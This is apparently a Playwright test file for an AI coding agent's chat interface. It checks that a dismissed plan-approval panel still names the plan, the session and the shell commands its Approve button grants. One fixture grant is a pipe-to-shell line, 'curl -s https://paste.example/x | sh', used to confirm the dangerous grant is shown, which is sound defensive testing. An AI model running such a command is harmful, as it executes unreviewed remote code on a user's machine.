// The approval a person dismissed (Escape) stays pending, and the chat's
// "Plan awaiting approval" panel then offers Approve, which calls agent/resolvePlan. That panel
// must still say which plan and which commands approving grants: docs/protocol.md says
// "agent/resolvePlan approves directly: a client that calls it shows the grants itself (the
// permission of the approval's agent/askUser)", and server/code_lens.go promises "a click never
// grants commands unseen".
import assert from 'node:assert/strict';
import { after, before, beforeEach, describe, test } from 'node:test';
import type { Page } from 'playwright-core';
import type { ToWebview } from '../../src/messages';
import type { PermissionRequest, Question } from '../../src/protocol';
import { ChatModel } from '../../src/state';
import { ChatPages, postedBy, sendTo } from './chatPage';

const pages = new ChatPages({ keepState: false });
let page: Page;

before(() => pages.start());
after(() => pages.stop());
beforeEach(async () => {
  page = await pages.open();
});

const show = (m: ChatModel) => sendTo(page, { type: 'state', snapshot: JSON.parse(JSON.stringify(m.snapshot())), context: null } as ToWebview);

function model(): ChatModel {
  const m = new ChatModel();
  m.upsertSession({ sessionId: 's1', title: 'Audit', mode: 'plan', planFile: 'plans/a.plan', createdAt: '2026-11-23T10:00:00Z', updatedAt: '2026-11-23T10:00:00Z' });
  m.setCurrent('s1');
  m.applyUpdate('s1', { sessionUpdate: 'plan', planFile: 'plans/a.plan', entries: [{ content: 'Add a unit test', priority: 'medium', status: 'pending' }] });
  return m;
}

/** The approval question as agent/approval_dialog.go asks it: plan rel, granting `grants`. */
function askApproval(m: ChatModel, rel: string, grants: string[]): void {
  const questions: Question[] = [
    { name: 'approve', question: `Review the plan \`${rel}\`. Accept it and start building?`, schema: { type: 'boolean' }, buttons: [{ label: 'Accept & Build', value: true, variant: 'primary' }, { label: 'Keep Planning', value: false, variant: 'secondary' }] },
    { name: 'feedback', question: 'What should change in the plan? (optional)', schema: { type: 'string', maxLength: 4000 }, optional: true } as Question,
  ];
  const permission: PermissionRequest = {
    kind: 'plan', what: rel, grants,
    options: [{ id: 'reject_once', kind: 'reject_once', label: 'Keep Planning' }, { id: 'allow_once', kind: 'allow_once', label: 'Accept & Build' }],
  };
  m.ask({ sessionId: 's1', questionId: 'qa', createdAt: 'x', purpose: 'plan_approval', questions, permission });
}

describe('a dismissed plan approval, approved from the chat', () => {
  // The grants are shown in the question bar (renderPermission); after Escape the state keeps only
  // { planFile } (src/state.ts dismiss) and webview/main.ts renderAwaiting shows a bare Approve.
  test('the awaiting panel lists the commands its Approve grants', async () => {
    const m = model();
    askApproval(m, 'plans/a.plan', ['curl -s https://paste.example/x | sh']);
    await show(m);
    await page.locator('form.question-bar.approval .permission-grants').waitFor();
    m.dismiss('s1', 'qa');
    await show(m);
    const panel = page.locator('.awaiting');
    await panel.locator('button.approve').waitFor();
    const text = await panel.innerText();
    assert.match(text, /curl -s https:\/\/paste\.example\/x \| sh/, `Approve grants the plan's allowed command unseen (the panel shows "${text.trim()}")`);
  });

  // exit_plan_mode on a second plan asks for permission.what (plans/b.plan) while the session's
  // plan is still the first one; dismiss() records st.session.planFile, so the panel names the
  // wrong plan and its Approve approves one the panel never named.
  test('the awaiting panel names the plan its Approve approves', async () => {
    const m = model();
    askApproval(m, 'plans/b.plan', []);
    await show(m);
    await page.locator('form.question-bar.approval').waitFor();
    m.dismiss('s1', 'qa');
    await show(m);
    const head = await page.locator('.awaiting .bar-title').innerText();
    assert.match(head, /plans\/b\.plan/, `the panel names the plan being approved (shows "${head.trim()}")`);
  });

  // The Approve posts { type: 'resolvePlan', decision: 'approve' } and the controller decides for
  // whatever session is current when it handles it (src/controller.ts resolvePlan: this.model.current,
  // and a plan_approval question pending there is answered instead). askUser from another session
  // selects that session first, so a click meant for this panel can approve another chat's plan.
  test('the awaiting panel\'s Approve names the session and plan it was shown for', async () => {
    const m = model();
    askApproval(m, 'plans/a.plan', []);
    await show(m);
    await page.locator('form.question-bar.approval').waitFor();
    m.dismiss('s1', 'qa');
    await show(m);
    await page.locator('.awaiting button.approve').click();
    const sent = (await postedBy(page)).filter((p) => p.type === 'resolvePlan');
    assert.equal(sent.length, 1);
    const msg = sent[0] as Record<string, unknown>;
    assert.equal(msg.sessionId, 's1', `the decision is bound to the chat it was shown in (posted ${JSON.stringify(msg)})`);
    assert.equal(msg.planFile, 'plans/a.plan', `the decision is bound to the plan it was shown for (posted ${JSON.stringify(msg)})`);
  });
});
